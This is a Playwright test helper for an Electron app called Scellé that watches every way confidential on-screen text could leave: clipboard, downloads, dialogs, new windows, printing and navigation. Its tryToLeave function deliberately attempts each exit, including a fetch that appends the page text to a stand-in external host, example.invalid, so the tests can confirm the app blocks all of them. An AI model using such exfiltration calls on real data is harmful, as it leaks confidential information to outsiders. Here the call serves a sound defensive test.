import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import type { Page } from "@playwright/test";
import { expect, type Scelle, startScelle } from "./scelle.ts";

/** What lies in the clipboard before anybody tries to copy. */
const UNTOUCHED = "nothing was copied";

/** The program's window with everything watched through which something could leave. */
export interface Watched {
	readonly scelle: Scelle;
	readonly page: Page;
	/** Fails when anything left, opened or moved since the beginning. */
	expectNothingLeft(): Promise<void>;
	clipboard(): Promise<string>;
	resetClipboard(): Promise<void>;
	close(): Promise<void>;
}

interface Seen {
	seen?: string[];
}

/** Opens the invented dossiers and watches main: dialogs, windows, tools, navigations, downloads. */
export async function watchExits(): Promise<Watched> {
	const dir = fs.mkdtempSync(path.join(os.tmpdir(), "scelle-exits-"));
	const scelle = await startScelle(path.join(dir, "profile"), {
		args: ["--demo"],
	});
	await expect(
		scelle.page.getByRole("heading", { level: 1, name: "Échéances" }),
	).toBeVisible({ timeout: 150_000 });
	return watchOn(scelle, dir);
}

/** Watches a program that runs already; `dir` is the test's own, and goes with it. */
export async function watchOn(scelle: Scelle, dir: string): Promise<Watched> {
	const { app, page } = scelle;
	const downloads = path.join(dir, "downloads");
	fs.mkdirSync(downloads);
	await watchMain(scelle, downloads);
	await page.evaluate(() => {
		Object.assign(window, { stillThere: true });
	});
	const clipboard = () =>
		app.evaluate(async (electron) => await electron.clipboard.readText());
	const resetClipboard = () =>
		app.evaluate(
			async (electron, text) => await electron.clipboard.writeText(text),
			UNTOUCHED,
		);
	await resetClipboard();
	return {
		scelle,
		page,
		clipboard,
		resetClipboard,
		expectNothingLeft: async () => {
			const seen = await app.evaluate(() => (globalThis as Seen).seen ?? []);
			expect(seen).toEqual([]);
			expect(fs.readdirSync(downloads)).toEqual([]);
			expect(await clipboard()).toBe(UNTOUCHED);
			expect(page.url()).toBe("app://scelle/");
			expect(await page.evaluate(() => "stillThere" in window)).toBe(true);
			expect(await windowTitles(scelle)).toEqual(["Scellé", "Scellé"]);
		},
		close: async () => {
			await scelle.close();
			fs.rmSync(dir, { recursive: true, force: true });
		},
	};
}

const windowTitles = ({ app }: Scelle) =>
	app.evaluate(({ BrowserWindow }) =>
		BrowserWindow.getAllWindows().map((window) => window.getTitle()),
	);

async function watchMain({ app }: Scelle, downloads: string): Promise<void> {
	await app.evaluate(({ app: main, BrowserWindow, dialog }, folder) => {
		main.setPath("downloads", folder);
		const seen: string[] = [];
		(globalThis as Seen).seen = seen;
		for (const name of Object.keys(dialog))
			if (name.startsWith("show"))
				Object.assign(dialog, {
					[name]: async () => {
						seen.push(`dialog ${name}`);
						return { canceled: true, filePaths: [], response: 0 };
					},
				});
		main.on("browser-window-created", () => seen.push("window"));
		main.on("web-contents-created", () => seen.push("web contents"));
		for (const { webContents } of BrowserWindow.getAllWindows()) {
			webContents.on("devtools-opened", () => seen.push("tools"));
			webContents.on("did-navigate", (_event, url) =>
				seen.push(`navigated ${url}`),
			);
			webContents.session.on("will-download", (_event, item) => {
				item.once("done", (_done, state) => {
					if (state === "completed") seen.push("download");
				});
			});
		}
	}, downloads);
}

/** The shortest way of each kind, while what must not leave stands on the screen: keys, copying, files, windows, printing. */
export async function tryToLeave(page: Page): Promise<void> {
	await page.evaluate(() => {
		const main = document.querySelector("main");
		if (main) getSelection()?.selectAllChildren(main);
	});
	for (const key of ["c", "x", "p", "s", "u", "Shift+I", "n", "t"])
		await page.keyboard.press(`Control+${key}`);
	await page.evaluate(async () => {
		const text = document.querySelector("main")?.textContent ?? "";
		const blob = URL.createObjectURL(new Blob([text]));
		const link = document.createElement("a");
		Object.assign(link, { href: blob, download: "a.txt" });
		document.body.append(link);
		link.click();
		link.remove();
		document.execCommand("copy");
		window.print();
		window.open(blob);
		location.assign(`data:text/plain,${encodeURIComponent(text)}`);
		await navigator.clipboard.writeText(text).catch(() => undefined);
		await fetch(`https://example.invalid/?${text}`).catch(() => undefined);
		await new Promise((resolve) => setTimeout(resolve, 500));
	});
}
